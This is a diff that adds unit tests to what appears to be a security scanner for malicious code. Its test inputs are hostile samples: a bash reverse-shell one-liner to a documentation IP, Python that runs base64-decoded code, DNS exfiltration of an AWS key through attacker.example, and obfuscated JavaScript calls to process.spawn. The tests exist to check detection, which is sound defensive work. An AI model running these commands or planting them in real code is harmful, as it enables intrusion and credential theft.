@@ -114,3 +114,20 @@ def test_code_findings_are_not_redacted_and_carry_snippets() -> None:
     found = SCANNER.scan(b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
     assert found and not any(f.redact for f in found)
     assert any("/dev/tcp" in f.evidence for f in found)
+
+
+def test_python_subprocess_of_decoded_code_is_critical() -> None:
+    found = [f for f in SCANNER.scan(b'subprocess.run(["python", "-c", base64.b64decode("cHJpbnQoMSk=")])')
+             if f.rule == "code.py.exec-decoded"]
+    assert found and found[0].severity == Severity.CRITICAL
+
+
+def test_python_dns_exfiltration_via_fstring_host() -> None:
+    assert "code.py.dns-exfiltration" in rules('socket.gethostbyname(f"{aws_key}.attacker.example")')
+    assert "code.py.dns-exfiltration" not in rules('socket.gethostbyname("db.internal")')
+
+
+def test_js_dynamic_api_access_is_obfuscation() -> None:
+    for text in ("process['sp' + 'awn']('node', ['x.js'])", "Reflect.get(process, 'spawn')('node', ['x.js'])"):
+        assert "code.js-api-obfuscation" in rules(text), text
+    assert "code.js-api-obfuscation" not in rules("const home = process['env'].HOME")
